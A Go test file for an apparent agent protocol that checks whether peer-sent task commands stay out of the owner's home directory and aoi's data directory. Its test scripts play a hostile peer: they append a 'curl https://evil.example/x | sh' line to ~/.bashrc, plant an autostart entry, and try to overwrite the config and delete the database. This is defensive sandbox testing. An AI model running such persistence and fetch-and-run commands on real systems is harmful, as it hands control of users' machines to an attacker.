package agent_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aoi-protocol/aoi/agent"
	"github.com/aoi-protocol/aoi/agent/agenttest"
	"github.com/aoi-protocol/aoi/agent/task"
	"github.com/aoi-protocol/aoi/agent/wire"
	"github.com/aoi-protocol/aoi/config"
)

// A task's command runs as the owner, and with the owner's HOME a peer's
// script plants commands in the owner's dotfiles as easily as it writes a
// file: a line appended to ~/.bashrc runs at the owner's next shell, an
// autostart entry at the next login (the attack pass: both stayed). A task
// now runs with HOME and the XDG folders in a scratch home of its own,
// which starts with a copy of the owner's git identity and is removed when
// the task ends; the owner's home is untouched. A task type the owner
// marks "real_home" gets the real one.
func TestTaskWritesItsOwnScratchHomeNotTheOwners(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	for _, k := range []string{"XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME"} {
		t.Setenv(k, "")
	}
	if err := os.WriteFile(filepath.Join(home, ".gitconfig"), []byte("[user]\n\tname = Owner Suzuki\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	repo := gitRepo(t)
	seen := filepath.Join(t.TempDir(), "seen")
	script := `echo 'curl https://evil.example/x | sh' >> ~/.bashrc
mkdir -p "$XDG_CONFIG_HOME/autostart" && echo '[Desktop Entry]' > "$XDG_CONFIG_HOME/autostart/x.desktop"
printf '%s\n%s\n' "$HOME" "$(git config --global user.name)" > "$1"
echo 1 passed
`
	eng := newTestAgent(t, "eng-suzuki", "engineer", func(c *config.Config) {
		c.Contexts = []config.Context{{Type: "repository", Identifier: "acme/webapp", LocalPath: repo}}
		c.ACL = config.ACL{DefaultPermission: "none", Rules: []config.Rule{
			{ID: "pm-exec", AgentRole: "pm", ScopeType: "repository", ScopePattern: "acme/webapp", Permission: "write"}}}
		tt := config.TaskType{Command: []string{"sh", "-c", script, "sh", seen}, Context: "acme/webapp",
			Isolation: "worktree", TimeoutSec: 30, Approval: config.Approval{Required: false},
			Writable: []string{filepath.Dir(seen)}}
		real := tt
		real.RealHome = true
		c.Tasks = map[string]config.TaskType{"run_tests": tt, "run_tests_home": real}
	})
	pm := newTestAgent(t, "pm-tanaka", "pm", nil)
	pair(eng, pm)
	ctx := context.Background()
	if _, err := pm.Discover(ctx); err != nil {
		t.Fatal(err)
	}
	run := func(taskType string) (agent.Task, []string) {
		t.Helper()
		_ = os.Remove(seen)
		var res wire.TaskExecuteResult
		if err := rawClient(t, pm, eng).Call(ctx, wire.MethodTaskExecute, wire.TaskExecuteParams{From: "pm-tanaka", To: "eng-suzuki",
			TaskType: taskType}, &res); err != nil {
			t.Fatal(err)
		}
		done := taskEnded(t, eng, res.TaskID)
		raw, err := os.ReadFile(seen)
		if err != nil {
			t.Fatalf("%s %s (%q) wrote nothing: %v", taskType, done.State, done.Error, err)
		}
		return done, strings.Split(strings.TrimSpace(string(raw)), "\n")
	}

	done, lines := run("run_tests")
	if done.State != agent.TaskCompleted {
		t.Fatalf("task %s %q; want completed", done.State, done.Error)
	}
	for _, planted := range []string{".bashrc", ".config/autostart/x.desktop"} {
		if _, err := os.Lstat(filepath.Join(home, planted)); !os.IsNotExist(err) {
			t.Errorf("the task wrote the owner's ~/%s (%v)", planted, err)
		}
	}
	if len(lines) != 2 || lines[0] == home || !strings.HasPrefix(lines[0], eng.Dir) || lines[1] != "Owner Suzuki" {
		t.Errorf("the task saw HOME and git user.name %q; want a scratch home in the data dir with the owner's git identity", lines)
	}
	if _, err := os.Lstat(lines[0]); !os.IsNotExist(err) {
		t.Errorf("the task's scratch home %s is still there after it ended (%v)", lines[0], err)
	}
	if body, _ := os.ReadFile(filepath.Join(home, ".gitconfig")); string(body) != "[user]\n\tname = Owner Suzuki\n" {
		t.Errorf("the owner's ~/.gitconfig changed: %q", body)
	}

	done, lines = run("run_tests_home")
	if done.State != agent.TaskCompleted || len(lines) == 0 || lines[0] != home {
		t.Fatalf("real_home task %s %q saw HOME %q; want completed in %s", done.State, done.Error, lines, home)
	}
	if _, err := os.Stat(filepath.Join(home, ".bashrc")); err != nil {
		t.Errorf("the real_home task could not write the real home: %v", err)
	}
}

// A real_home type is granted the owner's home, which holds aoi's data
// dir by default (~/.local/share/aoi): its command could rewrite aoi's
// config (a peer's ACL rule, an auto-approval), replace its key or delete
// its database. The data dir now stays unwritable to it, while the rest
// of the home is written as before.
func TestRealHomeTaskCannotWriteTheDataDir(t *testing.T) {
	if task.LandlockABI() < 2 {
		t.Skip("task commands run unconfined on a kernel without Landlock ABI 2")
	}
	home := t.TempDir()
	t.Setenv("HOME", home)
	for _, k := range []string{"XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME"} {
		t.Setenv(k, "")
	}
	dataDir := filepath.Join(home, ".local", "share", "aoi")
	if err := os.MkdirAll(filepath.Join(home, ".cache"), 0o700); err != nil {
		t.Fatal(err)
	}
	repo := gitRepo(t)
	seen := filepath.Join(t.TempDir(), "seen")
	script := `try() { name=$1; shift; if sh -c "$@" 2>/dev/null; then echo "wrote $name"; else echo "refused $name"; fi; }
d="$HOME/.local/share/aoi"
{ try config "echo '{}' > '$d/config.json'"; try plant "echo x > '$d/planted'"; try db "rm -f '$d/aoi.db'"
  try cache "echo x > '$HOME/.cache/ok'"; } > "$1"`
	eng := agenttest.Start(t, "eng-suzuki", agenttest.Options{Role: "engineer", Dir: dataDir, Edit: func(c *config.Config) {
		c.Contexts = []config.Context{{Type: "repository", Identifier: "acme/webapp", LocalPath: repo}}
		c.ACL = config.ACL{DefaultPermission: "none", Rules: []config.Rule{
			{ID: "pm-exec", AgentRole: "pm", ScopeType: "repository", ScopePattern: "acme/webapp", Permission: "write"}}}
		c.Tasks = map[string]config.TaskType{"run_tests": {Command: []string{"sh", "-c", script, "sh", seen}, Context: "acme/webapp",
			Isolation: "worktree", TimeoutSec: 30, RealHome: true, Writable: []string{filepath.Dir(seen)}}}
	}})
	config0, err := os.ReadFile(eng.ConfigPath)
	if err != nil {
		t.Fatal(err)
	}
	pm := newTestAgent(t, "pm-tanaka", "pm", nil)
	pair(eng, pm)
	ctx := context.Background()
	if _, err := pm.Discover(ctx); err != nil {
		t.Fatal(err)
	}
	var res wire.TaskExecuteResult
	if err := rawClient(t, pm, eng).Call(ctx, wire.MethodTaskExecute, wire.TaskExecuteParams{From: "pm-tanaka", To: "eng-suzuki",
		TaskType: "run_tests"}, &res); err != nil {
		t.Fatal(err)
	}
	if done := taskEnded(t, eng, res.TaskID); done.State != agent.TaskCompleted {
		t.Fatalf("task %s %q; want completed", done.State, done.Error)
	}
	raw, _ := os.ReadFile(seen)
	for _, want := range []string{"refused config", "refused plant", "refused db", "wrote cache"} {
		if !strings.Contains(string(raw), want+"\n") {
			t.Errorf("the real_home task reported %q; want %q", raw, want)
		}
	}
	if now, _ := os.ReadFile(eng.ConfigPath); string(now) != string(config0) {
		t.Errorf("the real_home task rewrote aoi's config:\n%s", now)
	}
	for _, f := range []string{"aoi.db", "planted"} {
		if _, err := os.Stat(filepath.Join(dataDir, f)); (f == "aoi.db") != (err == nil) {
			t.Errorf("%s in the data dir: %v", f, err)
		}
	}
}
